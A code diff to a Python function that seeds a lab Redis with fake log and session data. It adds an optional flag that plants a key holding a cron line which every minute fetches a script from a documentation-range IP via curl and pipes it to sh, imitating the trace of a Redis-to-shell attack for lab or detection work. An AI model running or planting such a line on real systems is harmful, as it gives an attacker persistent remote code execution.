@@ -246,9 +246,16 @@ def _log_record(message: ChatMessage, rng: random.Random) -> dict[str, object]:
     return record
 
 
-def seed_redis(instance: Instance, seed: int = SEED) -> int:
+PLANTED_CRON_LINE = "*/1 * * * * curl -fsSL http://203.0.113.9/.x/init.sh | sh"
+
+
+def seed_redis(instance: Instance, seed: int = SEED, *, planted_payload: bool = False) -> int:
     """Fill a lab Redis with log strings, hashes, a list, a set, a sorted set and a stream in
-    db 0, and sessions and a few archived logs in db 2; returns the number of keys written."""
+    db 0, and sessions and a few archived logs in db 2; returns the number of keys written.
+
+    ``planted_payload`` adds what the Redis-to-shell attack leaves: ``backup1`` holding a cron
+    line that fetches a script (from a documentation address, 203.0.113.0/24).
+    """
     rng = random.Random(seed)  # noqa: S311 - reproducible fake data, not secrets
     people = make_people(REDIS_USERS, rng)
     messages = make_messages(people, REDIS_LOG_RECORDS + 5, rng)
@@ -288,8 +295,10 @@ def seed_redis(instance: Instance, seed: int = SEED) -> int:
                 },
             )
         pipe.set("config:features", json.dumps({"typing_indicator": True, "max_upload_mb": 64}))
+        if planted_payload:
+            pipe.set("backup1", f"\n\n{PLANTED_CRON_LINE}\n\n")
         pipe.execute()
-        written += REDIS_LOG_RECORDS + len(people) + 5
+        written += REDIS_LOG_RECORDS + len(people) + 5 + planted_payload
     finally:
         db0.close()
     db2 = connect_redis(instance.host, instance.port, instance.password, db=2)
